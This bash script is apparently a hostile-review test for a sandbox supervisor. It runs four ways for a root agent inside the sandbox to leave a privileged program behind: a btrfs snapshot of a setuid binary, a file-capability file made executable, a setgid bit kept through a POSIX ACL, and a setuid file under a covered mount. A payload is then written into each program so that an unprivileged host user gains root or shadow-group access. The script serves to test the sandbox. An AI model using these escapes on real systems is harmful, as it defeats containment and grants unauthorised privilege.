#!/bin/bash
# ha24-setid.sh (hostile review h-attack24, against 315075b): a root agent
# leaves a program that runs privileged outside the run although each
# setuid, setgid+g+x or capable executable under a declared path is bound
# read-only at start (rootfs.c bind_setid), S_ISUID/S_ISGID are refused in
# every mode call, and CAP_FSETID, CAP_SETFCAP, CAP_SYS_ADMIN are dropped.
# Agent: ha24-setid.c; payload: ha24-payload.c. uid 1000 runs the result
# on the host, outside the run, after the supervisor has exited.
#  A: btrfs. The host's / and the declared path are one btrfs file system
#     (a loop image here: / with usr/bin/passwd setuid root, the declared
#     path home/build). The agent snapshots the root subvolume (read-only
#     in its view: a snapshot needs only its owner, uid 0, and a writable
#     destination) into the declared path: a new inode per file with the
#     source's S_ISUID, made after the walk. It rewrites snap/usr/bin/passwd
#     through a shared mapping; uid 1000 runs it: uid 0.
#  B: a file with security.capability and no execute bit (0644) on the
#     declared path: not bound (privileged() wants an execute bit); the
#     agent rewrites it through a mapping (keeps the xattr) and chmods it
#     0755 (no setid bit: the filter allows it; chmod keeps the xattr).
#  C: a setgid file without group execute (02745 root:shadow): not bound
#     ("a locking mark"); the agent rewrites it through a mapping, joins
#     group shadow (CAP_SETGID) and sets a minimal POSIX ACL with g::r-x:
#     the kernel writes the group bits of the mode and keeps S_ISGID
#     (posix_acl_update_mode), 02755, with no mode call.
#  D: a mount under the declared path, covered by a later mount on the
#     declared path itself: mountinfo still lists the covered mount point
#     (W/sub), the walk skips that name by string, but in the agent's view
#     W/sub is a plain directory of the declared mount, and the setuid
#     program in it is not bound (W/passwd, beside it, is: EROFS).
# Stand-ins in a private mount namespace (tmpfs, a btrfs loop image).
set -uo pipefail
cd "$(dirname "$0")/../.." || exit 2
SV=${SV:-$PWD/build/egress-supervisor}
. tests/review/review-lock.sh
review_lock dir-ha24 || exit 2 # one run at a time: another would rebuild under /tmp/ha24
T=/tmp/ha24
mkdir -p $T
gcc -O2 -static -o $T/setid tests/review/ha24-setid.c || exit 2
gcc -Os -nostdlib -static -fno-pie -no-pie -fno-stack-protector -s -o $T/payload \
	tests/review/ha24-payload.c || exit 2
cat >$T/setid-inner.sh <<'INNER'
set -u
exec 2>&1
SV=$1 T=/tmp/ha24
H=$T/host W=$T/work F=$T/fs
mkdir -p $H $W $F
mount -t tmpfs -o mode=755 ha24-host $H
mkdir -m 700 $H/secret
printf 'shadow-only\n' >$H/shadow; chown root:shadow $H/shadow; chmod 640 $H/shadow
outside() { # PROGRAM: uid 1000 runs it on the host, outside the run
	rm -f $H/secret/marker
	setpriv --reuid 1000 --regid 1000 --clear-groups "$1" \
		"id >$H/secret/marker; cat $H/shadow >>$H/secret/marker" 2>&1
	echo "host's root-only marker: $(cat $H/secret/marker 2>&1 | tr '\n' ' ')"
}
echo "== A: btrfs snapshot of the host's root subvolume into the declared path"
truncate -s 300M $T/btrfs.img
mkfs.btrfs -q -f $T/btrfs.img >/dev/null 2>&1 || { echo "no mkfs.btrfs"; exit 2; }
mount -o loop $T/btrfs.img $F
mkdir -p $F/usr/bin $F/home/build
cp /usr/bin/passwd $F/usr/bin/passwd; chmod 4755 $F/usr/bin/passwd
chmod 755 $F $F/home $F/home/build
"$SV" --writable $F/home/build -- /bin/sh -c "
	$T/setid show $F/usr/bin/passwd
	$T/setid mmap $F/usr/bin/passwd $T/payload
	$T/setid snap $F $F/home/build snap &&
	$T/setid mmap $F/home/build/snap/usr/bin/passwd $T/payload"
echo "supervisor exit $?"
echo "host sees: $(stat -c '%A %U:%G %s' $F/home/build/snap/usr/bin/passwd)"
outside $F/home/build/snap/usr/bin/passwd
umount $F
echo "== B: security.capability on a 0644 file under the declared path"
mount -t tmpfs -o mode=755 ha24-work $W
cp /usr/bin/passwd $W/cap; chmod 0644 $W/cap; setcap cap_setuid,cap_setgid+ep $W/cap
"$SV" --writable $W -- /bin/sh -c "
	$T/setid mmap $W/cap $T/payload && $T/setid chmod $W/cap 0755"
echo "supervisor exit $?"
echo "host sees: $(stat -c '%A %U:%G %s' $W/cap) $(getcap $W/cap)"
outside $W/cap
echo "== C: a setgid file without group execute (02745 root:shadow)"
cp /usr/bin/passwd $W/sg; chown root:shadow $W/sg; chmod 2745 $W/sg
"$SV" --writable $W -- /bin/sh -c "
	$T/setid mmap $W/sg $T/payload && $T/setid acl $W/sg"
echo "supervisor exit $?"
echo "host sees: $(stat -c '%A %U:%G %s' $W/sg)"
rm -f $H/out
setpriv --reuid 1000 --regid 1000 --clear-groups $W/sg "id; cat $H/shadow" 2>&1
umount $W
echo "== D: a setuid program under a covered mount point of the declared path"
mkdir -p $W/sub
mount -t tmpfs -o mode=755 ha24-covered $W/sub
mount -t tmpfs -o mode=755 ha24-work $W
mkdir -p $W/sub
cp /usr/bin/passwd $W/sub/passwd; chmod 4755 $W/sub/passwd
cp /usr/bin/passwd $W/passwd; chmod 4755 $W/passwd
"$SV" --writable $W -- /bin/sh -c "
	$T/setid mmap $W/passwd $T/payload
	$T/setid mmap $W/sub/passwd $T/payload"
echo "supervisor exit $?"
echo "host sees: $(stat -c '%A %U:%G %s' $W/sub/passwd)"
outside $W/sub/passwd
umount $W; umount $W/sub
umount $H
INNER
timeout 120 unshare -m --propagation private bash $T/setid-inner.sh "$SV"
rm -f $T/setid-inner.sh $T/btrfs.img
